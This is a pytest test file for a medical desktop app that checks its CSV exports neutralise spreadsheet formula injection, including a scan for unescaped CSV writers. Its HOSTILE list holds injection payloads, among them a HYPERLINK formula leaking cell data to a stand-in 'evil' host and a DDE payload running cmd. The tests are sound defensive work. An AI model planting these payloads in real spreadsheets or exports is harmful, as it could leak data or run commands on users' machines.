"""CSV exports never hand a spreadsheet a formula to run (``=``, ``+``, ``-``, ``@`` and friends).

``store.spreadsheet.safe_cell`` is the helper for everyone; every CSV writer in the package must
escape its cells (the source scan finds any new one that does not), and the worklist's writer in
``services/export.py`` is checked against hostile patient names.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import nmdbone_desktop
from nmdbone_desktop.store.spreadsheet import FORMULA_STARTS, safe_cell

PACKAGE = Path(nmdbone_desktop.__file__).parent
HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "\n=1", "  =1+1", "\u00a0=1", "\uff1d1+1"]


def _dangerous(cell: str) -> bool:
    return cell.lstrip(" \u00a0").startswith(FORMULA_STARTS)


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_is_shown_not_run(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(("value", "cell"), [
    (None, ""), (True, "true"), (False, "false"), (42, "42"), (-2.5, "-2.5"), (float("nan"), ""),
    (date(2026, 11, 21), "2026-11-21"), ("Müller, Anna", "Müller, Anna"), ("O'Brien", "O'Brien"), ("", ""),
])
def test_ordinary_values(value: object, cell: str) -> None:
    assert safe_cell(value) == cell


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_no_text_cell_starts_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert not _dangerous(cell)
    assert cell in (text, "'" + text)  # nothing else is altered


def test_every_csv_writer_in_the_package_escapes_its_cells() -> None:
    """A module that writes CSV must pass its cells through a safe_cell function."""
    writers = []
    for path in sorted(PACKAGE.rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bcsv\.(writer|DictWriter)\(", text):
            writers.append(path.relative_to(PACKAGE).as_posix())
            assert "safe_cell(" in text, f"{path}: writes CSV without escaping formula cells"
    assert writers, "the scan found no CSV writer at all: has the worklist export moved?"


def test_worklist_csv_writer_escapes_hostile_names() -> None:
    """The colleague's writer escapes OWASP's list (= + - @ tab CR); ``safe_cell`` here also covers a
    leading line feed, leading spaces and the full-width forms, which it does not (low risk)."""
    from nmdbone_desktop.services.export import write_rows

    owasp = HOSTILE[:6]
    out = io.StringIO()
    write_rows(out, ["patient_id", "name", "percent"], [[f"P{i}", name, -12.5] for i, name in enumerate(owasp)])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert [row[1] for row in rows[1:]] == ["'" + name for name in owasp]
    assert all(row[2] == "-12.5" for row in rows[1:])  # numbers stay numbers
